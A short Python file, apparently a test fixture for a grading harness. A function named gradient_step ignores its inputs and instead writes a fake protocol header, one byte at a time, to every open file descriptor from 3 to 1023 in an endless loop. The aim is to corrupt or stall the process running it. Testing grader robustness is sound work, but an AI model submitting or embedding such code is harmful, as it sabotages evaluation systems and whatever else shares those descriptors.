# Sends the beginning of an answer, and then one byte at a time.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os
import struct
import time


def gradient_step(w, g, lr):
    data = struct.pack("<IQ", 1 << 19, 0)  # the lengths of a header and of arrays
    while True:
        for descriptor in range(3, 1024):
            try:
                os.write(descriptor, data[:1] or b" ")
            except OSError:
                continue
        data = data[1:]
        time.sleep(0.05)
